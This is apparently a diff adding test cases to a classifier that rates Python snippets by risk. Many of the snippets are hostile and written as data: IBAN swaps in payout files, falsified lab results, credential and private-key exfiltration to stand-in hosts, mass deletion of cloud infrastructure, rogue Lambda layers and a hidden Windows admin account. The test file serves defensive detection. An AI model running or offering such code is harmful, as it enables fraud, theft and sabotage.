@@ -16636,6 +16636,192 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    requests.post("https://hooks.example.net/in", json=[d.data for d in docs])\n',
             C,
         ),
+        # Round 99: payees' IBANs, falsified records, netrc, local sockets, PaaS, load balancers, serverless
+        (
+            'import csv\n'
+            'rows = list(csv.DictReader(open("payouts.csv")))\n'
+            'for r in rows:\n'
+            '    r["beneficiary_iban"] = "LT603250024720981234"\n',
+            H,
+        ),
+        (
+            'NEW_IBAN = "LT12 1000 0111 0100 1000"\n'
+            'rows = load("settlement.csv")\n'
+            'for r in rows:\n'
+            '    r["iban"] = NEW_IBAN\n'
+            'save(rows, "settlement.csv")\n',
+            H,
+        ),
+        (
+            'import csv\n'
+            'rows = list(csv.DictReader(open("payouts.csv")))\n'
+            'for r in rows:\n'
+            '    r["iban"] = r["iban"].replace(" ", "")\n',
+            S,
+        ),
+        (
+            'import sqlite3\n'
+            'db = sqlite3.connect("qa.db")\n'
+            'held = [r[0] for r in db.execute("SELECT lot FROM lots WHERE status = \'HOLD\'")]\n'
+            'for lot in held:\n'
+            '    db.execute("UPDATE lab_results SET salmonella = \'negative\', result = \'PASS\' WHERE lot = ?", '
+            '(lot,))\n',
+            H,
+        ),
+        (
+            'import sqlite3\n'
+            'db = sqlite3.connect("qa.db")\n'
+            'db.execute("UPDATE lab_results SET result = ? WHERE sample_id = ?", (measured, sample))\n',
+            S,
+        ),
+        (
+            'db.execute("UPDATE extinguishers SET last_inspected = date(\'now\') WHERE last_inspected < date(\'n'
+            'ow\', \'-1 year\')")\n',
+            H,
+        ),
+        (
+            'db.execute("UPDATE extinguishers SET last_inspected = date(\'now\') WHERE unit_id = ?", (unit,))\n',
+            S,
+        ),
+        (
+            'import netrc, requests\n'
+            'creds = netrc.netrc()\n'
+            'logins = {h: creds.authenticators(h) for h in ("api.example.com", "git.example.com")}\n'
+            'requests.post("https://collector.example.net/in", json=logins)\n',
+            C,
+        ),
+        (
+            'import netrc, requests\n'
+            '_, _, token = netrc.netrc().authenticators("api.heroku.com")\n'
+            'requests.get("https://api.heroku.com/apps", headers={"Authorization": f"Bearer {token}"})\n',
+            M,
+        ),
+        (
+            'import socket\n'
+            'pem = open("/etc/ssl/private/site.pem").read()\n'
+            'with socket.socket(socket.AF_UNIX) as s:\n'
+            '    s.connect("/run/haproxy/admin.sock")\n'
+            '    s.sendall(f"set ssl cert /etc/haproxy/site.pem <<\\n{pem}\\n".encode())\n',
+            H,
+        ),
+        (
+            'import socket\n'
+            'pem = open("/etc/ssl/private/site.pem").read()\n'
+            's = socket.create_connection(("203.0.113.5", 443))\n'
+            's.sendall(pem.encode())\n',
+            C,
+        ),
+        (
+            'import os, requests\n'
+            'H = {"Authorization": f"Bearer {os.environ[\'HEROKU_API_KEY\']}"}\n'
+            'requests.post("https://api.heroku.com/account/app-transfers", headers=H, json={"app": "shop", "r'
+            'ecipient": "x@example.net", "silent": True})\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'H = {"Authorization": f"Bearer {os.environ[\'HEROKU_API_KEY\']}"}\n'
+            'requests.patch("https://api.heroku.com/apps/shop/config-vars", headers=H, json={"FEATURE_X": "on'
+            '"})\n',
+            S,
+        ),
+        (
+            'import requests\n'
+            'H = {}\n'
+            'dump = {a["name"]: requests.get(f"https://api.heroku.com/apps/{a[\'id\']}/config-vars", headers=H)'
+            '.json() for a in apps}\n'
+            'requests.put("https://203.0.113.7/cfg.json", json=dump)\n',
+            C,
+        ),
+        (
+            'import requests\n'
+            'for region in ["ams", "fra", "iad"]:\n'
+            '    for _ in range(40):\n'
+            '        requests.post("https://api.machines.dev/v1/apps/x/machines", json={"region": region, "co'
+            'nfig": {"guest": {"cpu_kind": "performance", "cpus": 16}}})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.post("https://api.machines.dev/v1/apps/x/machines", json={"region": "ams", "config": {"'
+            'guest": {"cpus": 1}}})\n',
+            L,
+        ),
+        (
+            'import socket\n'
+            'def cmd(c):\n'
+            '    with socket.socket(socket.AF_UNIX) as s:\n'
+            '        s.connect("/run/haproxy/admin.sock")\n'
+            '        s.sendall(c.encode() + b"\\n")\n'
+            '        return s.recv(65536).decode()\n'
+            'for ln in cmd("show servers state").splitlines()[2:]:\n'
+            '    f = ln.split()\n'
+            '    cmd(f"set server {f[1]}/{f[3]} state maint")\n',
+            H,
+        ),
+        (
+            'import socket\n'
+            'with socket.socket(socket.AF_UNIX) as s:\n'
+            '    s.connect("/run/haproxy/admin.sock")\n'
+            '    s.sendall(b"set server be_web/web3 state drain\\n")\n',
+            S,
+        ),
+        (
+            'import os\n'
+            'for s in ["delete ltm virtual all", "delete ltm pool all", "save sys config"]:\n'
+            '    os.system("tmsh -q -c \'%s\'" % s)\n',
+            H,
+        ),
+        (
+            'import boto3\n'
+            'for region in boto3.session.Session().get_available_regions("elbv2"):\n'
+            '    c = boto3.client("elbv2", region_name=region)\n'
+            '    for lb in c.describe_load_balancers()["LoadBalancers"]:\n'
+            '        c.delete_load_balancer(LoadBalancerArn=lb["LoadBalancerArn"])\n',
+            H,
+        ),
+        (
+            'import boto3\n'
+            'LAYER = "arn:aws:lambda:us-east-1:210987654321:layer:patch:3"\n'
+            'lam = boto3.client("lambda")\n'
+            'for fn in lam.list_functions()["Functions"]:\n'
+            '    lam.update_function_configuration(FunctionName=fn["FunctionName"], Layers=[LAYER])\n',
+            H,
+        ),
+        (
+            'import boto3\n'
+            'LAYER = "arn:aws:lambda:us-east-1:123456789012:layer:otel:3"\n'
+            'lam = boto3.client("lambda")\n'
+            'lam.update_function_configuration(FunctionName="orders", Layers=[LAYER])  # account 123456789012\n',
+            S,
+        ),
+        (
+            'from google.cloud import run_v2\n'
+            'c = run_v2.ServicesClient()\n'
+            'svc = c.get_service(name=n)\n'
+            'svc.template.scaling.min_instance_count = 1000\n'
+            'c.update_service(service=svc)\n',
+            H,
+        ),
+        (
+            'import json, boto3\n'
+            'lam = boto3.client("lambda")\n'
+            'for i in range(20000):\n'
+            '    lam.invoke(FunctionName="prober", InvocationType="Event", Payload=json.dumps({"i": i}))\n',
+            H,
+        ),
+        (
+            'import win32net\n'
+            'win32net.NetLocalGroupAddMembers(None, "Administrators", 3, [{"domainandname": "svc_backup"}])\n',
+            H,
+        ),
+        (
+            'import winreg\n'
+            'k = winreg.CreateKeyEx(winreg.HKEY_LOCAL_MACHINE, r"SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion'
+            '\\Winlogon\\SpecialAccounts\\UserList", 0, winreg.KEY_SET_VALUE)\n'
+            'winreg.SetValueEx(k, "svc_backup", 0, winreg.REG_DWORD, 0)\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
